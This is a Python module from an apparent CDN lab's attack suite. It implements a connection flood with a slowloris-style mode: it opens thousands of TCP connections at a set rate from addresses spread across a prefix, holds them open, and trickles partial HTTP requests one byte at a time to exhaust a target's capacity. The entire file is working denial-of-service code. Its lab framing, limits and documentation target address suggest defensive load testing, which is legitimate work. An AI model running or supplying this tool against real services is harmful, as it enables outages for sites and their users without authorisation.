"""Real connections from many sources: opened at a rate, and held; idle, or asking a letter at a time.

    python -m cdnctl.lab.attacks.crowd  <  {"target": ["203.0.113.80", 80], "prefix": "10.16.0.0/12",
                                            "sources": 4000, "rate": 1500, "most": 15000, "letters_s": 0,
                                            "seconds": 10, "cpu": 1}

Open loop, as the honest clients are, but nobody here wants an answer. At `most` connections the oldest makes
room for the next. With `letters_s` above 0 each sends the beginning of a request, and another letter of it so
often. It ends after its time, when standard input closes, or at `{"stop": true}`, and closes all, one after
the other.

Answers, one JSON line each, are those of `flood`; `sent` counts connections begun, and `opened`, `failed` and
`held` say what became of them.
"""

from __future__ import annotations

import contextlib
import errno
import ipaddress
import json
import os
import resource
import select
import socket
import sys
import time
from collections import deque
from itertools import islice
from typing import Any

MAX_SECONDS, MAX_CONNECTIONS = 300.0, 30_000
REPORT_NS = 200_000_000
SLICE_S = 0.002
BATCH = 256
"""Connections begun at once, before those that are under way get their turn."""
LEAVING = 8
"""Connections closed at once, at the end."""
SPREAD = 2_654_435_761
"""Neighbours in number are none in address: the golden ratio of 2^32, which is odd."""
IP_BIND_ADDRESS_NO_PORT = 24
_SPARE_FILES = 64
_BEGINNING = b"GET /512?n=1 HTTP/1.1\r\nHost: lab\r\nX-Slow: "


class Crowd:
    """The event loop."""

    def __init__(self, order: dict[str, Any]) -> None:
        self.target = (str(order["target"][0]), int(order["target"][1]))
        network = ipaddress.ip_network(order["prefix"])
        self.base, self.size = int(network.network_address), network.num_addresses
        self.sources = min(int(order["sources"]), self.size)
        self.rate = float(order["rate"])
        self.most = min(int(order["most"]), MAX_CONNECTIONS, _room_for_files())
        self.letters_ns = int(float(order["letters_s"]) * 1e9)
        self.seconds = min(float(order["seconds"]), MAX_SECONDS)
        self.poll = select.epoll()
        self.poll.register(0, select.EPOLLIN)
        self.held: dict[int, socket.socket] = {}
        """By descriptor, the oldest first."""
        self.due: deque[tuple[int, int, socket.socket]] = deque()
        """When the next letter is due, and whose."""
        self.sent = self.opened = self.failed = 0

    def run(self) -> None:
        """Until it is over."""
        self.begun = now = reported = time.monotonic_ns()
        end = self.begun + int(self.seconds * 1e9)
        self.report(now, done=False)
        while now < end:
            wanted = int((now - self.begun) * self.rate / 1e9)
            for _ in range(min(BATCH, wanted - self.sent)):
                self.open()
            for fd, events in self.poll.poll(SLICE_S, 4096):
                if fd == 0:
                    end = 0
                else:
                    self.serve(fd, events)
            now = time.monotonic_ns()
            self.write_letters(now)
            if now - reported >= REPORT_NS:
                reported = now
                self.report(now, done=False)
        last = self.answer(now, done=True)
        self.leave()
        os.write(1, last)  # whoever has it ends this process, and with it what is still open

    def leave(self) -> None:
        """Some at a time: the end of thousands at once is a second's work for all processors, and CDNs that
        share them look dark meanwhile."""
        reported = time.monotonic_ns()
        while self.held:
            for fd in list(islice(self.held, LEAVING)):
                self.drop(fd)
            time.sleep(SLICE_S)
            if time.monotonic_ns() - reported >= REPORT_NS:
                reported = time.monotonic_ns()
                self.report(reported, done=False)

    def report(self, now: int, *, done: bool) -> None:
        os.write(1, self.answer(now, done=done))

    def answer(self, now: int, *, done: bool) -> bytes:
        counts = {"sent": self.sent, "opened": self.opened, "failed": self.failed, "held": len(self.held)}
        return json.dumps({"at_ns": now, "begun_ns": self.begun, **counts, "done": done}).encode() + b"\n"

    def source(self) -> str:
        number = self.sent % self.sources
        return str(ipaddress.IPv4Address(self.base + number * SPREAD % self.size))

    def open(self) -> None:
        if len(self.held) >= self.most:
            self.drop(next(iter(self.held)))
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        sock.bind((self.source(), 0))
        self.sent += 1
        self.held[sock.fileno()] = sock
        self.poll.register(sock.fileno(), select.EPOLLOUT)
        if sock.connect_ex(self.target) not in (0, errno.EINPROGRESS):
            self.fail(sock.fileno())

    def serve(self, fd: int, events: int) -> None:
        """It is connected, or it is over."""
        sock = self.held.get(fd)
        if sock is None:
            return
        if events & (select.EPOLLERR | select.EPOLLHUP | select.EPOLLIN):
            self.fail(fd)
            return
        self.opened += 1
        self.poll.modify(fd, select.EPOLLIN)
        if self.letters_ns:
            self.send(fd, sock, _BEGINNING)

    def write_letters(self, now: int) -> None:
        while self.due and self.due[0][0] <= now:
            _, fd, sock = self.due.popleft()
            if self.held.get(fd) is sock:
                self.send(fd, sock, b"s")

    def send(self, fd: int, sock: socket.socket, text: bytes) -> None:
        try:
            sock.send(text)
        except OSError:
            self.fail(fd)
            return
        self.due.append((time.monotonic_ns() + self.letters_ns, fd, sock))

    def fail(self, fd: int) -> None:
        self.failed += 1
        self.drop(fd)

    def drop(self, fd: int) -> None:
        sock = self.held.pop(fd)
        with contextlib.suppress(OSError):
            self.poll.unregister(fd)
        sock.close()


def _room_for_files() -> int:
    """As many connections as there may be files, after asking for more."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    with contextlib.suppress(OSError, ValueError):
        wanted = max(hard, MAX_CONNECTIONS + _SPARE_FILES)
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, wanted))
    soft, _ = resource.getrlimit(resource.RLIMIT_NOFILE)
    return soft - _SPARE_FILES


def main() -> int:
    """Obey one order and report."""
    order = json.loads(sys.stdin.buffer.readline() or b"{}")
    if not order:
        return 0
    os.sched_setaffinity(0, {int(order["cpu"])})
    Crowd(order).run()
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except (KeyboardInterrupt, BrokenPipeError):
        sys.exit(130)
